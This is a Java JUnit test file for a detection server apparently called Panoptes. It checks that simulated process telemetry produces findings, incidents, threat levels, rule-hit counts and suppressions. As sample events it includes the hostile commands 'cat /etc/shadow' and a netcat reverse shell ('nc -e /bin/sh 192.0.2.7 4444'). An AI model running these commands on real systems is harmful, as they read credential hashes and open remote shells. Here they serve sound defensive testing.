package dev.panoptes.server.detections;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import dev.panoptes.server.TestServer;
import dev.panoptes.server.TestServer.Answer;
import dev.panoptes.server.storage.TestPostgres;
import dev.panoptes.server.storage.TestPostgres.Databases;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/** What sensors send becomes findings and incidents in the same transaction, and the level of threat rises and falls. */
@ExtendWith(TestPostgres.class)
class DetectionsTest {
    @TempDir
    Path directory;

    private static Answer send(TestServer server, String token, String sensor, List<String> events)
            throws IOException, InterruptedException {
        String body = "{\"stream\":\"" + UUID.randomUUID() + "\",\"sensor\":\"" + sensor + "\",\"first\":1,\"count\":"
                + events.size() + ",\"lost\":[]}\n" + String.join("\n", events) + "\n";
        return server.call(
                "POST",
                "/api/v1/telemetry",
                body,
                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/x-ndjson"));
    }

    private static String process(String id, Instant at, String user, String line) {
        return "{\"@timestamp\":\"" + at + "\",\"event\":{\"id\":\"" + id
                + "\",\"action\":\"process_started\",\"dataset\":\"panoptes.proc\"},\"host\":{\"name\":\"web-1\"},"
                + "\"user\":{\"name\":\"" + user + "\"},\"process\":{\"executable\":\"/usr/bin/"
                + line.substring(0, line.indexOf(' ')) + "\",\"command_line\":\"" + line + "\"}}";
    }

    @Test
    void anAttackBecomesOneIncidentThatIsAcknowledgedAndResolved(Databases databases)
            throws IOException, InterruptedException {
        try (TestServer server = TestServer.start(databases, directory, Map.of("observe.local", "false"))) {
            assertThat(server.get("/api/v1/threat").json().path("level").asString())
                    .isEqualTo("UNKNOWN");
            String token = server.call(
                            "POST", "/api/v1/tokens", "{\"name\":\"o\",\"role\":\"observer\",\"host\":\"web-1\"}")
                    .json()
                    .path("token")
                    .asString();
            Instant now = Instant.now().truncatedTo(ChronoUnit.SECONDS);
            assertThat(send(
                                    server,
                                    token,
                                    "proc",
                                    List.of(
                                            process("p1", now.minusSeconds(60), "alice", "ls -l"),
                                            process("p2", now.minusSeconds(50), "alice", "cat /etc/shadow"),
                                            process("p3", now.minusSeconds(40), "alice", "whoami "),
                                            process(
                                                    "p4",
                                                    now.minusSeconds(30),
                                                    "alice",
                                                    "nc -e /bin/sh 192.0.2.7 4444")))
                            .status())
                    .isEqualTo(200);
            JsonNode list = server.get("/api/v1/incidents").json().path("items");
            assertThat(list.size()).isEqualTo(1);
            String id = list.get(0).path("id").asString();
            assertThat(list.get(0).path("state").asString()).isEqualTo("open");
            assertThat(list.get(0).path("host").asString()).isEqualTo("web-1");
            JsonNode details = server.get("/api/v1/incidents/" + id).json().path("details");
            assertThat(details.path("events").toString()).contains("p2", "p4");
            assertThat(details.path("chain").toString()).contains("T1003.008", "T1059.004");
            assertThat(server.get("/api/v1/threat").json().path("level").asString())
                    .isIn("HIGH", "CRITICAL", "UNDER_ATTACK");
            assertThat(server.get("/api/v1/findings").json().path("items").toString())
                    .contains("shadow_file_read", "reverse_shell_netcat");
            JsonNode health = server.get("/api/v1/health/system").json();
            assertThat(health.path("threat_level").asString()).isNotEqualTo("UNKNOWN");
            assertThat(health.path("events_last_24h").asLong()).isEqualTo(4);

            assertThat(server.call("PATCH", "/api/v1/incidents/" + id, "{\"state\":\"resolved\",\"note\":\"a test\"}")
                            .status())
                    .isEqualTo(200);
            assertThat(server.get("/api/v1/threat").json().path("level").asString())
                    .isEqualTo("BENIGN");
            // It goes on: the incident opens again.
            send(server, token, "proc", List.of(process("p5", now, "alice", "nc -e /bin/sh 192.0.2.8 4444")));
            assertThat(server.get("/api/v1/incidents/" + id)
                            .json()
                            .path("state")
                            .asString())
                    .isEqualTo("open");
        }
    }

    @Test
    void rulesAndCoverageAreTold(Databases databases) throws IOException, InterruptedException {
        try (TestServer server = TestServer.start(databases, directory, Map.of("observe.local", "false"))) {
            JsonNode rules = server.get("/api/v1/rules").json();
            assertThat(rules.path("items").size()).isGreaterThan(200);
            assertThat(rules.path("broken").size()).isZero();
            assertThat(server.get("/api/v1/rules/reverse_shell_netcat")
                            .json()
                            .path("level")
                            .asString())
                    .isEqualTo("high");
            assertThat(server.get("/api/v1/rules/nothing").status()).isEqualTo(404);
            assertThat(server.get("/api/v1/attack").json().path("items").toString())
                    .contains("T1059.004", "T1562.001", "T1685", "dga_domain");
        }
    }

    @Test
    void whatARuleMatchedAndWhoCouldSeeItIsTold(Databases databases) throws IOException, InterruptedException {
        Path rules = Files.createDirectories(directory.resolve("rules.d"));
        Files.writeString(
                rules.resolve("no_condition.yml"), "title: x\nlogsource: {product: linux}\ndetection: {a: {b: c}}\n");
        try (TestServer server = TestServer.start(databases, directory, Map.of("observe.local", "false"))) {
            JsonNode unseen = rule(server, "reverse_shell_netcat");
            assertThat(unseen.path("hits").asLong()).isZero();
            assertThat(unseen.path("last_hit").isNull()).isTrue();
            assertThat(unseen.path("text").asString()).contains("title:");
            assertThat(unseen.path("sensors").toString()).contains("\"proc\"");
            assertThat(unseen.path("cases").size()).isGreaterThan(2);
            unseen.path("cases")
                    .forEach(one -> assertThat(one.path("holds").asBoolean()).isTrue());
            assertThat(technique(server, "/api/v1/attack", "T1059.004")
                            .path("host_count")
                            .asInt())
                    .isZero();

            String token = server.call(
                            "POST", "/api/v1/tokens", "{\"name\":\"o\",\"role\":\"observer\",\"host\":\"web-1\"}")
                    .json()
                    .path("token")
                    .asString();
            Instant now = Instant.now().truncatedTo(ChronoUnit.SECONDS);
            send(server, token, "proc", List.of(process("n1", now, "alice", "nc -e /bin/sh 192.0.2.7 4444")));

            JsonNode seen = rule(server, "reverse_shell_netcat");
            assertThat(seen.path("hits").asLong()).isEqualTo(1);
            assertThat(Instant.parse(seen.path("last_hit").asString())).isEqualTo(now);
            assertThat(seen.path("hosts").get(0).path("host").asString()).isEqualTo("web-1");
            JsonNode shell = technique(server, "/api/v1/attack", "T1059.004");
            assertThat(shell.path("hosts").toString()).isEqualTo("[\"web-1\"]");
            assertThat(shell.path("hits").asLong()).isPositive();
            JsonNode names = technique(server, "/api/v1/attack?host=web-1", "T1568.002");
            assertThat(names.path("host_count").asInt()).isZero();
            assertThat(names.path("blind_count").asInt()).isEqualTo(1);
            assertThat(technique(server, "/api/v1/attack?host=other", "T1059.004")
                            .path("blind_count")
                            .asInt())
                    .isZero();

            JsonNode broken = rule(server, "no_condition");
            assertThat(broken.path("state").asString()).isEqualTo("broken");
            assertThat(broken.path("reasons").toString()).contains("condition");
            assertThat(broken.path("text").asString()).startsWith("title: x");

            JsonNode threat = server.get("/api/v1/threat").json();
            assertThat(threat.path("reasons").size()).isEqualTo(1);
            JsonNode reason = threat.path("reasons").get(0);
            assertThat(reason.path("weight").asInt()).isIn(45, 80);
            assertThat(reason.path("points").asDouble())
                    .isCloseTo(threat.path("score").asDouble(), within(0.11));
            assertThat(threat.path("reason").asString()).contains("1 open incident");
            assertThat(threat.path("thresholds").get(4).path("level").asString())
                    .isEqualTo("LOW");
        }
    }

    private static JsonNode rule(TestServer server, String name) throws IOException, InterruptedException {
        return server.get("/api/v1/rules/" + name).json();
    }

    private static JsonNode technique(TestServer server, String path, String id)
            throws IOException, InterruptedException {
        for (JsonNode one : server.get(path).json().path("items")) {
            if (one.path("technique").asString().equals(id)) {
                return one;
            }
        }
        throw new AssertionError("no technique " + id);
    }

    @Test
    void whatIsKnownToBeHarmlessIsCountedAndNotTold(Databases databases) throws IOException, InterruptedException {
        try (TestServer server = TestServer.start(databases, directory, Map.of("observe.local", "false"))) {
            String token = server.call(
                            "POST", "/api/v1/tokens", "{\"name\":\"o\",\"role\":\"observer\",\"host\":\"web-1\"}")
                    .json()
                    .path("token")
                    .asString();
            for (String wrong : List.of(
                    "{\"host\":\"web-1\",\"reason\":\"x\",\"duration\":\"1h\"}",
                    "{\"rule\":\"a\",\"reason\":\"x\"}",
                    "{\"rule\":\"a\",\"reason\":\"x\",\"duration\":\"3650d\"}",
                    "{\"rule\":\"a\",\"duration\":\"1h\"}")) {
                assertThat(server.call("POST", "/api/v1/suppressions", wrong).status())
                        .as(wrong)
                        .isEqualTo(400);
            }
            JsonNode made = server.call(
                            "POST",
                            "/api/v1/suppressions",
                            "{\"rule\":\"reverse_shell_netcat\",\"host\":\"web-1\",\"user\":\"alice\",\"reason\":\"an"
                                    + " exercise\",\"duration\":\"2h\"}")
                    .json();
            Instant now = Instant.now().truncatedTo(ChronoUnit.SECONDS);
            String line = "nc -e /bin/sh 192.0.2.7 4444";
            send(server, token, "proc", List.of(process("s1", now.minusSeconds(9), "alice", line)));
            assertThat(server.get("/api/v1/incidents").json().path("items").size())
                    .isZero();
            assertThat(server.get("/api/v1/findings").json().path("items").toString())
                    .doesNotContain("reverse_shell_netcat");
            JsonNode listed =
                    server.get("/api/v1/suppressions").json().path("items").get(0);
            assertThat(listed.path("suppressed").asLong()).isEqualTo(1);
            assertThat(listed.path("reason").asString()).isEqualTo("an exercise");
            // Of somebody else it is told.
            send(server, token, "proc", List.of(process("s2", now.minusSeconds(8), "bob", line)));
            assertThat(server.get("/api/v1/incidents").json().path("items").size())
                    .isEqualTo(1);
            assertThat(server.call(
                                    "DELETE",
                                    "/api/v1/suppressions/" + made.path("id").asString(),
                                    null)
                            .status())
                    .isEqualTo(204);
            assertThat(server.call(
                                    "DELETE",
                                    "/api/v1/suppressions/" + made.path("id").asString(),
                                    null)
                            .status())
                    .isEqualTo(404);
            send(server, token, "proc", List.of(process("s3", now.minusSeconds(7), "alice", line)));
            JsonNode incidents = server.get("/api/v1/incidents").json().path("items");
            String id = incidents.get(0).path("id").asString();
            assertThat(server.get("/api/v1/incidents/" + id).json().toString()).contains("s2", "s3");
            assertThat(server.get("/api/v1/audit").body()).contains("suppression.create", "suppression.end");
        }
    }
}
